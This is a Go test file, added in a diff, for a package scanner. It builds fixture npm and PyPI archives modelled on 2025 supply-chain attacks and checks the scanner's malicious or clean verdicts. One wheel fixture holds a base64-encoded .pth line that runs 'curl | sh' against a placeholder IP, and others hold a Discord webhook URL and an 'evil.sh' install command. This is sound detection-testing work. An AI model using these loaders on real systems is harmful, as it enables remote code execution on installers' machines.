@@ -1,0 +1,157 @@
+package inspect
+
+import (
+	"context"
+	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
+	"testing"
+
+	"customs/internal/finding"
+)
+
+func rulesOf(r Result) []string {
+	var ids []string
+	for _, f := range r.Findings {
+		if !slices.Contains(ids, f.Rule) {
+			ids = append(ids, f.Rule)
+		}
+	}
+	return ids
+}
+
+// TestFixtures checks the verdicts a user relies on for the npm attacks of
+// 2025 (written from public write-ups: no real npm samples are in the
+// corpus), their clean predecessors, benign install scripts, and the
+// common PyPI patterns.
+func TestFixtures(t *testing.T) {
+	dir := t.TempDir()
+	chalkJSON := `, "type": "module", "exports": "./source/index.js"`
+	debugJSON := `, "main": "./src/index.js"`
+	debugSource := "const tty = require('tty');\nconst util = require('util');\nexports.log = (...args) => process.stderr.write(util.format(...args) + '\\n');\nexports.useColors = () => tty.isatty(process.stderr.fd);\nmodule.exports = require('./common')(exports);\n"
+	cases := []struct {
+		name     string
+		path     string
+		want     finding.Verdict
+		notWorse finding.Verdict // when set, the verdict may be anything up to this
+		rules    []string        // rules that must be among the findings
+	}{
+		{name: "chalk trojaned (Sept 2025)", want: finding.Malicious,
+			path:  writeTarGz(t, dir, "chalk-5.6.1.tgz", npmPackage("chalk", "5.6.1", chalkJSON, file{"source/index.js", walletDrainer() + chalkSource})),
+			rules: []string{"js-obfuscator-output", "web3-network-hook", "wallet-address-list"}},
+		{name: "chalk clean predecessor", want: finding.Clean,
+			path: writeTarGz(t, dir, "chalk-5.6.0.tgz", npmPackage("chalk", "5.6.0", chalkJSON, file{"source/index.js", chalkSource}))},
+		{name: "debug trojaned (Sept 2025)", want: finding.Malicious,
+			path:  writeTarGz(t, dir, "debug-4.4.2.tgz", npmPackage("debug", "4.4.2", debugJSON, file{"src/index.js", walletDrainer() + debugSource})),
+			rules: []string{"combo-hook-wallet"}},
+		{name: "debug clean predecessor", want: finding.Clean,
+			path: writeTarGz(t, dir, "debug-4.4.1.tgz", npmPackage("debug", "4.4.1", debugJSON, file{"src/index.js", debugSource}))},
+		{name: "Shai-Hulud worm", want: finding.Malicious,
+			path: writeTarGz(t, dir, "tinycolor-4.1.1.tgz", npmPackage("@ctrl/tinycolor", "4.1.1", `, "scripts": {"postinstall": "node bundle.js"}`,
+				file{"bundle.js", shaiHuludBundle}, file{"index.js", "module.exports = {};\n"})),
+			rules: []string{"secret-scanner-run", "package-json-hook-injection", "combo-token-propagation"}},
+		{name: "postinstall curl|sh dropper", want: finding.Malicious,
+			path:  writeTarGz(t, dir, "colors-helper-1.0.0.tgz", npmPackage("colors-helper", "1.0.0", shellDropperJSON, file{"index.js", "module.exports = {};\n"})),
+			rules: []string{"pipe-to-shell"}},
+		{name: "postinstall node dropper", want: finding.Malicious,
+			path:  writeTarGz(t, dir, "lodahs-4.17.22.tgz", npmPackage("lodahs", "4.17.22", `, "scripts": {"postinstall": "node setup.js"}`, file{"setup.js", nodeDropper}, file{"index.js", "module.exports = {};\n"})),
+			rules: []string{"raw-ip-url"}},
+		{name: "esbuild-style install.js", notWorse: finding.Suspicious,
+			path: writeTarGz(t, dir, "esbuild-0.25.0.tgz", npmPackage("esbuild", "0.25.0", `, "main": "lib/main.js", "scripts": {"postinstall": "node install.js"}`,
+				file{"install.js", esbuildInstall}, file{"lib/main.js", "module.exports = require('./esbuild');\n"}))},
+		{name: "node-gyp addon", want: finding.Clean,
+			path: writeTarGz(t, dir, "addon-1.0.0.tgz", npmPackage("addon", "1.0.0", "",
+				file{"binding.gyp", `{"targets": [{"target_name": "addon", "sources": ["addon.cc"]}]}`}, file{"index.js", "module.exports = require('./build/Release/addon.node');\n"}))},
+		{name: "setup.py install-hook beacon", want: finding.Malicious,
+			path: writeTarGz(t, dir, "reqeusts-toolkit-1.0.0.tar.gz", []file{
+				{"reqeusts-toolkit-1.0.0/PKG-INFO", fmt.Sprintf(pkgInfo, "reqeusts-toolkit", "1.0.0")},
+				{"reqeusts-toolkit-1.0.0/setup.py", setupBeacon},
+				{"reqeusts-toolkit-1.0.0/reqeusts_toolkit/__init__.py", ""}}),
+			rules: []string{"combo-setup-hook-network"}},
+		{name: "setup.py building a C extension", want: finding.Clean,
+			path: writeTarGz(t, dir, "fastthing-2.1.0.tar.gz", []file{
+				{"fastthing-2.1.0/PKG-INFO", fmt.Sprintf(pkgInfo, "fastthing", "2.1.0")},
+				{"fastthing-2.1.0/setup.py", setupBuildExt},
+				{"fastthing-2.1.0/fastthing/__init__.py", "from ._speedups import fast\n"}})},
+		{name: "wheel with a code-running .pth", want: finding.Malicious,
+			path: writeZip(t, dir, "helper-0.1-py3-none-any.whl", []file{
+				{"helper-0.1.dist-info/METADATA", fmt.Sprintf(pkgInfo, "helper", "0.1")},
+				{"helper.pth", "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLXMgaHR0cDovLzIwMy4wLjExMy43L3YgfCBzaCIp'))\n"},
+				{"helper/__init__.py", ""}}),
+			rules: []string{"pth-code", "py-exec-encoded"}},
+		{name: "stealer hidden in tests is weighed low", want: finding.Clean,
+			path: writeTarGz(t, dir, "lib-1.0.tar.gz", []file{
+				{"lib-1.0/PKG-INFO", fmt.Sprintf(pkgInfo, "lib", "1.0")},
+				{"lib-1.0/lib/__init__.py", "def f():\n    return 1\n"},
+				{"lib-1.0/tests/test_hooks.py", "def test_webhook_parse():\n    u = 'https://discord.com/api/webhooks/1098765432109876543/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789_-abcdefgh'\n    assert parse(u)\n"}})},
+	}
+	paths := make([]string, len(cases))
+	for i, c := range cases {
+		paths[i] = c.path
+	}
+	results := Run(context.Background(), paths, Options{})
+	for i, c := range cases {
+		r := results[i]
+		t.Run(c.name, func(t *testing.T) {
+			if r.Target != c.path {
+				t.Fatalf("result %d is for %s, want %s (input order)", i, r.Target, c.path)
+			}
+			if r.Error != "" {
+				t.Fatalf("error: %s", r.Error)
+			}
+			switch {
+			case c.notWorse != "":
+				if r.Verdict.Rank() > c.notWorse.Rank() {
+					t.Errorf("verdict %s (score %.1f), want at most %s; findings %v", r.Verdict, r.Score, c.notWorse, rulesOf(r))
+				}
+			case r.Verdict != c.want:
+				t.Errorf("verdict %s (score %.1f), want %s; findings %v", r.Verdict, r.Score, c.want, rulesOf(r))
+			}
+			for _, id := range c.rules {
+				if !slices.Contains(rulesOf(r), id) {
+					t.Errorf("finding %s missing; got %v", id, rulesOf(r))
+				}
+			}
+			for _, f := range r.Findings {
+				if f.Rule == "" || f.File == "" || f.Message == "" {
+					t.Errorf("incomplete finding %+v", f)
+				}
+			}
+		})
+	}
+}
+
+// TestTargetErrors: a missing or unreadable target is reported as an error
+// result, and the run goes on with the others.
+func TestTargetErrors(t *testing.T) {
+	dir := t.TempDir()
+	junk := filepath.Join(dir, "junk.tgz")
+	if err := os.WriteFile(junk, []byte("this is not an archive at all"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	good := writeTarGz(t, dir, "ok-1.0.0.tgz", npmPackage("ok", "1.0.0", "", file{"index.js", "module.exports = 1;\n"}))
+	res := Run(context.Background(), []string{filepath.Join(dir, "missing.tgz"), junk, good}, Options{Jobs: 2})
+	if res[0].Error == "" || res[1].Error == "" {
+		t.Errorf("want errors for missing and junk targets, got %q and %q", res[0].Error, res[1].Error)
+	}
+	if res[2].Error != "" || res[2].Verdict != finding.Clean || res[2].Name != "ok" || res[2].Files != 2 {
+		t.Errorf("good target: %+v", res[2])
+	}
+}
+
+// TestInstallScriptFiles: files named by npm install scripts run at
+// install time.
+func TestInstallScriptFiles(t *testing.T) {
+	for cmd, want := range map[string][]string{
+		"node install.js":                                   {"install.js"},
+		"node ./scripts/post.js --flag":                     {"scripts/post.js"},
+		`node -e "try{require('./postinstall')}catch(e){}"`: {"postinstall.js"},
+		"node-gyp rebuild":                                  nil,
+		"sh ../../evil.sh":                                  nil,
+	} {
+		if got := scriptFiles(cmd); !slices.Equal(got, want) {
+			t.Errorf("scriptFiles(%q) = %q, want %q", cmd, got, want)
+		}
+	}
+}
